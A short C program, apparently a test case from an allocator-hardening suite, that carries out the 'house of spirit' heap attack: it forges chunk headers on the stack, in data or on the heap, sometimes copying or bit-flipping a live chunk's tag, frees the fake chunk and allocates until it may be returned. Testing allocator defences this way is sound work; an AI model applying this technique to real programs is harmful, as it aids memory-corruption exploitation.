/* Usage: house_of_spirit SIZE stack|data|heap|copied|turned
   Frees a forged chunk, so that the next request of its size is given it.
   "copied" has the header of a live chunk of the same size, "turned" the same
   with every bit of the tag that changes from use to use turned. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv), chunk = (n + 8 + 15) & ~15ul;
    struct target t = { { 0 } };
    warm(n);
    unsigned char *mine = take_raw(100000), *other = take_raw(200);
    uint64_t *fake = is(argv, "stack") ? &t.words[2] : is(argv, "data") ? &in_data.words[2] : (uint64_t *)(mine + 4096);
    uint64_t *next = is(argv, "stack") || is(argv, "data") ? NULL : fake + chunk / 8;
    *size_word(fake) = (uint32_t)chunk | 1;
    *tag(fake) = 0x41414141;
    if (next)
        *size_word(next) = 4096 | 1;
    if (is(argv, "copied") || is(argv, "turned")) {
        *size_word(fake) = *size_word(other);
        *tag(fake) = is(argv, "copied") ? *tag(other) : *tag(other) ^ 0xfffffffe;
    }
    free(opaque(fake));
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
